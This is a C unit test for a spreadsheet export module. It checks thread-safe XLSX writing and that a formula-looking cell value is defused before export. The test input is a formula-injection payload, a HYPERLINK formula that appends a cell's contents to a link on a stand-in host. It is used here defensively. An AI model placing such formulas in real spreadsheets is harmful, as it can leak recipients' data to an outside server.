/* test-xlsxw.c — covers src/render/xlsxw.c and cellguard_xlsx_string
 * (src/render/cellguard.c): workbooks written by threads at once (as the
 * dashboard's export requests do; `make web-tsan` runs this under
 * ThreadSanitizer, which reported libxlsxwriter's gmtime before the lock)
 * read back with every cell as written, a formula-looking text defused and a
 * plain number left a number. */
#include "testutil.h"

#include "io/reader.h"
#include "render/cellguard.h"
#include "render/xlsxw.h"

#include <pthread.h>

enum { THREADS = 4, ROUNDS = 5 };

struct job {
	char path[128];
	int rc;
};

static void *write_main(void *arg)
{
	struct job *j = arg;
	j->rc = 0;
	for (int k = 0; k < ROUNDS && j->rc == 0; k++) {
		lxw_workbook *wb = workbook_new(j->path);
		lxw_worksheet *ws = wb ? workbook_add_worksheet(wb, NULL) : NULL;
		if (!ws) {
			j->rc = -1;
			break;
		}
		cellguard_xlsx_string(ws, 0, 0, "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
		                      NULL);
		cellguard_xlsx_string(ws, 0, 1, "-1234.50", NULL);
		cellguard_xlsx_string(ws, 0, 2, "Alfa AB", NULL);
		if (xlsxw_close(wb) != LXW_NO_ERROR)
			j->rc = -1;
	}
	return NULL;
}

static void test_threads(void **state)
{
	(void)state;
	struct job jobs[THREADS];
	pthread_t t[THREADS];
	for (int i = 0; i < THREADS; i++) {
		snprintf(jobs[i].path, sizeof(jobs[i].path), "/tmp/fokus-unit-xlsxw-%ld-%d.xlsx",
		         (long)getpid(), i);
		assert_int_equal(pthread_create(&t[i], NULL, write_main, &jobs[i]), 0);
	}
	for (int i = 0; i < THREADS; i++) {
		pthread_join(t[i], NULL);
		assert_int_equal(jobs[i].rc, 0);
		struct reader *r;
		struct ferr err = {0};
		struct row row;
		assert_int_equal(reader_open(jobs[i].path, NULL, &r, &err), 0);
		assert_int_equal(reader_next(r, &row, &err), 1);
		assert_int_equal(row.nf, 3);
		assert_string_equal(row.f[0].p,
		                    "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")");
		assert_string_equal(row.f[1].p, "-1234.50");
		assert_string_equal(row.f[2].p, "Alfa AB");
		reader_close(r);
		unlink(jobs[i].path);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_threads),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
